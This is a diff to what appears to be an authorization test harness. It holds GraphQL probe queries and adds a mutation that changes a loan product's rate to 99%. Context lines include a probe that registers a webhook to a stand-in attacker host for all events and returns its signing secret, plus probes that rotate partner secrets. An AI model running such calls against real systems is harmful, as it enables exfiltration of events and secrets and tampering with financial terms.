@@ -135,6 +135,7 @@ const PROBES: Record<string, string> = {
   'Mutation.rotatePartnerSecret': `mutation { rotatePartnerSecret(input: { code: "%ALPHA_CODE%" }) { clientSecret partner { id } } }`,
   'Query.webhookEndpoints': '{ webhookEndpoints(first: 100) { edges { node { id url partnerCode } } } }',
   'Query.webhookDeliveries': '{ webhookDeliveries(first: 100) { edges { node { id eventId endpoint { id url } } } } }',
+  'Mutation.reviseLoanProductTerms': 'mutation { reviseLoanProductTerms(input: { code: "PL-STD", annualRatePercent: "99" }) { id code currentTerms { version } } }',
   'Mutation.registerWebhookEndpoint': 'mutation { registerWebhookEndpoint(input: { url: "https://attacker.example.test/hook", eventTypes: ["*"], partnerCode: "%ALPHA_CODE%" }) { signingSecret endpoint { id } } }',
   'Mutation.deactivateWebhookEndpoint': 'mutation { deactivateWebhookEndpoint(input: { id: "%HOOK%" }) { id url active } }',
   'Mutation.replayWebhookDelivery': 'mutation { replayWebhookDelivery(input: { deliveryId: "%DELIVERY%" }) { id endpoint { url } } }',
